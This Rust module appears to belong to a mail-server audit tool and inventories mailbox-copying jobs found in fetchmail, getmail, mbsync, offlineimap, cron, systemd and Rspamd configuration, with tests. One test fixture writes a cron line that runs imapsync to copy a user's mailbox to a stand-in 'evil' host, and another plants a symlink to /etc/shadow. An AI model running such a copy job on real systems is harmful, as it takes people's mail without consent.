//! Programs that keep copying mailboxes: configuration files of fetchmail, getmail, mpop, mbsync and offlineimap, crontabs
//! and systemd units. Files are read, nothing is run.

mod commands;
mod fetchmail;
mod rspamd;
mod sections;

use std::path::{Path, PathBuf};

use mailwarden_evidence::{CoverageState, Fact, SYSTEM};

use crate::Harvest;
use crate::disk::{self, Tree};
use crate::harvest::{Place, named};

/// The surface of jobs.
pub const SURFACE: &str = "pull.jobs";
/// The surface of Rspamd's exporters.
pub const EXPORTERS: &str = "rspamd.exporters";
/// The surfaces this collector covers.
pub const SURFACES: [&str; 2] = [SURFACE, EXPORTERS];
/// Where Rspamd is configured.
const RSPAMD: &str = "/etc/rspamd";
/// Largest configuration file that is read.
const MAX_FILE: u64 = 4 * 1024 * 1024;
/// Most files of one directory.
const MAX_FILES: usize = 20_000;
/// Most jobs in all.
const MAX_JOBS: usize = 100_000;

/// Files with one job or several in the system's own places.
const FILES: [&str; 4] = ["/etc/fetchmailrc", "/etc/crontab", "/etc/getmailrc", "/etc/mbsyncrc"];
/// Directories of such files.
const DIRECTORIES: [&str; 10] = [
    "/etc/cron.d",
    "/etc/cron.hourly",
    "/etc/cron.daily",
    "/etc/cron.weekly",
    "/etc/cron.monthly",
    "/var/spool/cron/crontabs",
    "/var/spool/cron",
    "/etc/systemd/system",
    "/etc/systemd/user",
    "/etc/getmail",
];
/// Files in the home of each user.
const IN_HOMES: [&str; 7] = [
    ".fetchmailrc",
    ".getmailrc",
    ".getmail/getmailrc",
    ".mbsyncrc",
    ".config/isyncrc",
    ".offlineimaprc",
    ".config/getmail/getmailrc",
];

/// Where is looked.
#[derive(Debug, Clone)]
pub struct PullsPlan {
    files: Tree,
    /// More files and directories.
    pub also: Vec<PathBuf>,
    /// More homes, which the mail server's user database knows and `/etc/passwd` does not.
    pub homes: Vec<PathBuf>,
    label: String,
}

impl PullsPlan {
    /// This machine, or a copy of another below a directory.
    pub fn new(root: Option<&Path>, also: Vec<PathBuf>) -> Self {
        let files = root.map_or_else(Tree::default, Tree::below);
        let label = root.map_or_else(
            || "files of this host".to_owned(),
            |root| format!("files below {}", root.display()),
        );
        Self { files, also, homes: Vec::new(), label }
    }
}

/// One job as a file says it.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub(crate) struct Job {
    pub(crate) program: String,
    pub(crate) line: u32,
    pub(crate) mailbox: String,
    pub(crate) server: String,
    pub(crate) destination: String,
}

/// Reads every file that may hold a job.
pub fn collect(plan: &PullsPlan) -> Harvest {
    let mut look = Look { plan, harvest: Harvest::default(), gaps: Vec::new(), jobs: 0 };
    for file in FILES {
        look.file(Path::new(file));
    }
    for directory in DIRECTORIES {
        look.directory(Path::new(directory));
    }
    for home in look.homes() {
        IN_HOMES.iter().for_each(|name| look.file(&home.join(name)));
        look.directory(&home.join(".config/systemd/user"));
    }
    for path in &plan.also {
        look.file_or_directory(path);
    }
    let mut harvest = look.finish();
    exporters(plan, &mut harvest);
    harvest
}

/// What Rspamd hands on. Where there is no Rspamd there is nothing to see.
fn exporters(plan: &PullsPlan, harvest: &mut Harvest) {
    let place = Place { mailbox: SYSTEM, surface: EXPORTERS, source: &plan.label };
    let root = Path::new(RSPAMD);
    if !plan.files.names(root, MAX_FILES).is_ok_and(|names| names.is_none_or(|names| !names.is_empty())) {
        return harvest.cover(&place, CoverageState::Unsupported, "there is no Rspamd here");
    }
    let mut gaps = Vec::new();
    for name in rspamd::FILES {
        let path = root.join(name);
        match plan.files.read(&path, MAX_FILE) {
            Ok((_, true)) => gaps.push(format!("{}: longer than {MAX_FILE} bytes", path.display())),
            Ok((bytes, false)) => {
                let found = rspamd::read(&String::from_utf8_lossy(&bytes));
                let leads = found.not_followed.iter().map(|line| format!("{} line {line}", path.display()));
                gaps.extend(leads);
                found.rules.into_iter().take(MAX_JOBS).for_each(|rule| export(harvest, &place, &path, rule));
            }
            Err(error) if disk::is_absent(&error) => {}
            Err(error) => gaps.push(format!("{}: {error}", path.display())),
        }
    }
    let is_there = |path: &PathBuf| match plan.files.read(path, 1) {
        Ok(_) => true,
        Err(error) if disk::is_absent(&error) => false,
        Err(_) => {
            plan.files.names(path, MAX_FILES).is_ok_and(|names| names.is_none_or(|all| !all.is_empty()))
        }
    };
    let programs = rspamd::PROGRAMS.iter().map(|name| root.join(name)).filter(is_there);
    gaps.extend(programs.map(|path| format!("{} (a program, which is not analysed)", path.display())));
    if gaps.is_empty() {
        return harvest.cover(&place, CoverageState::Collected, "");
    }
    harvest.cover(&place, CoverageState::Partial, format!("not or not wholly read: {}", named(&gaps)));
}

fn export(harvest: &mut Harvest, place: &Place<'_>, path: &Path, (line, rule, to): (u32, String, String)) {
    let file = path.display().to_string();
    // A URL may hold a password before its host.
    let destination = without_credentials(&to);
    let excerpt = format!("{file}:{line} {rule} {destination}");
    let program = format!("Rspamd's exporter {rule}").trim().to_owned();
    let (mailbox, server) = (String::new(), String::new());
    let fact = Fact::PullJob { program, file, line, mailbox, server, destination };
    harvest.observe(place, fact, excerpt.as_bytes(), &excerpt);
}

fn without_credentials(to: &str) -> String {
    match to.split_once("://") {
        Some((scheme, rest)) => {
            let (authority, path) = rest.split_once('/').unwrap_or((rest, ""));
            let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
            // What follows a question mark may be a key.
            format!("{scheme}://{host}/{}", path.split('?').next().unwrap_or_default())
        }
        None => to.to_owned(),
    }
}

struct Look<'p> {
    plan: &'p PullsPlan,
    harvest: Harvest,
    gaps: Vec<String>,
    jobs: usize,
}

impl Look<'_> {
    fn homes(&mut self) -> Vec<PathBuf> {
        let Ok((passwd, _)) = self.plan.files.read(Path::new("/etc/passwd"), MAX_FILE) else {
            self.gaps.push("/etc/passwd".to_owned());
            return Vec::new();
        };
        let passwd = String::from_utf8_lossy(&passwd).into_owned();
        let homes = passwd.lines().filter_map(|line| line.split(':').nth(5)).filter(|home| home.len() > 1);
        let own = self.plan.homes.iter().cloned();
        let mut homes: Vec<PathBuf> =
            homes.filter(|home| home.starts_with('/')).map(PathBuf::from).chain(own).collect();
        homes.sort();
        homes.dedup();
        homes
    }

    fn directory(&mut self, directory: &Path) {
        match self.plan.files.names(directory, MAX_FILES) {
            Ok(Some(names)) => names.iter().for_each(|name| self.file(name)),
            Ok(None) => self.gaps.push(format!("{}: more than {MAX_FILES} files", directory.display())),
            Err(error) => self.gaps.push(format!("{}: {error}", directory.display())),
        }
    }

    /// Named by the administrator, so it has to be there.
    fn file_or_directory(&mut self, path: &Path) {
        match self.plan.files.read(path, MAX_FILE) {
            Ok(_) => self.file(path),
            Err(error) if disk::is_absent(&error) => self.gaps.push(format!("{}: {error}", path.display())),
            Err(_) => self.directory(path),
        }
    }

    fn file(&mut self, path: &Path) {
        let (bytes, is_long) = match self.plan.files.read(path, MAX_FILE) {
            Ok(read) => read,
            // What is no regular file holds no job.
            Err(error) if disk::is_absent(&error) || error.kind() == std::io::ErrorKind::InvalidInput => {
                return;
            }
            Err(error) => return self.gaps.push(format!("{}: {error}", path.display())),
        };
        if is_long {
            self.gaps.push(format!("{}: longer than {MAX_FILE} bytes", path.display()));
        }
        let text = String::from_utf8_lossy(&bytes);
        for job in jobs(path, &text) {
            if self.jobs == MAX_JOBS {
                return self.gaps.push(format!("jobs beyond the first {MAX_JOBS}"));
            }
            self.jobs += 1;
            self.observe(path, job);
        }
    }

    fn observe(&mut self, path: &Path, job: Job) {
        let file = path.display().to_string();
        // The line itself may hold a password, so it is not quoted.
        let excerpt = format!("{file}:{} {} {} {}", job.line, job.program, job.mailbox, job.server);
        let Job { program, line, mailbox, server, destination } = job;
        let fact = Fact::PullJob { program, file, line, mailbox, server, destination };
        let place = Place { mailbox: SYSTEM, surface: SURFACE, source: &self.plan.label };
        self.harvest.observe(&place, fact, excerpt.as_bytes(), &excerpt);
    }

    fn finish(mut self) -> Harvest {
        let place = Place { mailbox: SYSTEM, surface: SURFACE, source: &self.plan.label };
        match self.gaps.is_empty() {
            true => self.harvest.cover(&place, CoverageState::Collected, ""),
            false => {
                let reason = format!("not or not wholly read: {}", named(&self.gaps));
                self.harvest.cover(&place, CoverageState::Partial, reason);
            }
        }
        self.harvest
    }
}

/// The jobs of a file, read as its name says it is written.
fn jobs(path: &Path, text: &str) -> Vec<Job> {
    let name = path.file_name().map(|name| name.to_string_lossy().into_owned()).unwrap_or_default();
    match name.as_str() {
        _ if name.contains("fetchmail") && !name.ends_with(".service") => fetchmail::jobs(text),
        _ if name.contains("getmail") && name.ends_with("rc") => sections::getmail(text),
        _ if path.starts_with("/etc/getmail") => sections::getmail(text),
        ".offlineimaprc" => sections::offlineimap(text),
        ".mbsyncrc" | "isyncrc" | "mbsyncrc" => sections::mbsync(text),
        _ => commands::jobs(text),
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn every_place_is_looked_at_and_nothing_outside_a_copy() {
        let copy = tempfile::tempdir().unwrap();
        let write = |name: &str, text: &str| {
            let path = copy.path().join(name);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            std::fs::write(path, text).unwrap();
        };
        write("etc/passwd", "bob:x:1:1::/home/bob:/bin/sh\n");
        write("home/bob/.fetchmailrc", "poll mail.example.test user \"jane\" is bob\n");
        write(
            "etc/cron.d/copy",
            "5 * * * * root imapsync --user1 jane@example.test --host2 imap.evil.example\n",
        );
        write("etc/cron.d/other", "5 * * * * root /usr/sbin/logrotate /etc/fetchmail.conf.old\n");
        write("etc/systemd/system/sync.service", "[Service]\nExecStart=/usr/bin/mbsync -a\n");
        std::os::unix::fs::symlink("/../../etc/shadow", copy.path().join("etc/crontab")).unwrap();
        let harvest = collect(&PullsPlan::new(Some(copy.path()), Vec::new()));
        let said = |fact: &Fact| match fact {
            Fact::PullJob { program, file, line, mailbox, .. } => {
                format!("{program} {file}:{line} {mailbox}")
            }
            other => format!("{other:?}"),
        };
        let mut jobs: Vec<String> = harvest.observations.iter().map(|seen| said(&seen.fact)).collect();
        jobs.sort();
        assert_eq!(
            jobs,
            [
                "fetchmail /home/bob/.fetchmailrc:1 jane",
                "imapsync /etc/cron.d/copy:1 jane@example.test",
                "mbsync /etc/systemd/system/sync.service:2 ",
            ]
        );
        assert_eq!(harvest.coverage[0].state, CoverageState::Collected, "{}", harvest.coverage[0].reason);
        assert_eq!(harvest.coverage[1].state, CoverageState::Unsupported, "no Rspamd");
        write("srv/mail/jane/.fetchmailrc", "poll mail.example.test user \"jane\"\n");
        let mut known = PullsPlan::new(Some(copy.path()), Vec::new());
        known.homes = vec!["/srv/mail/jane".into()];
        assert_eq!(collect(&known).observations.len(), 4, "a home of the user database");
        let named = PullsPlan::new(Some(copy.path()), vec!["/srv/absent".into()]);
        assert_eq!(collect(&named).coverage[0].state, CoverageState::Partial);
    }

    proptest! {
        #[test]
        fn any_file_is_read_and_its_jobs_have_lines_of_it(
            text in "(poll|user|is|\"|'|\n|[ =#\\[\\]@a-z.-]|IMAPAccount|imapsync |--user1 ){0,80}",
            name in proptest::sample::select(vec![".fetchmailrc", ".getmailrc", ".mbsyncrc", ".offlineimaprc", "crontab"]),
        ) {
            let lines = u32::try_from(text.lines().count()).unwrap().max(1);
            for job in jobs(Path::new(name), &text) {
                prop_assert!(job.line >= 1 && job.line <= lines, "{job:?} of {lines}");
                prop_assert!(!job.program.is_empty());
            }
        }
    }
}
